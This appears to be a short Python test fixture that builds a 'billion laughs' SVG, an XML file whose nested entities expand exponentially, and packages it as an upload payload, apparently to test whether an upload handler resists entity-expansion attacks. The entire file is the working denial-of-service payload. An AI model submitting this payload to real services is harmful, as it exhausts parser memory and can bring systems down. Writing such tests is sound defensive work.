"""An SVG whose entities stand for a billion others."""


def upload(kit):
    entities = b"<!ENTITY e0 'ha'>"
    for level in range(1, 10):
        entities += f"<!ENTITY e{level} '{f'&e{level - 1};' * 10}'>".encode()
    return kit.image({"payload": kit.tools.File(b"<?xml version='1.0'?><!DOCTYPE x [" + entities + b"]><svg>&e9;</svg>")}).tar()
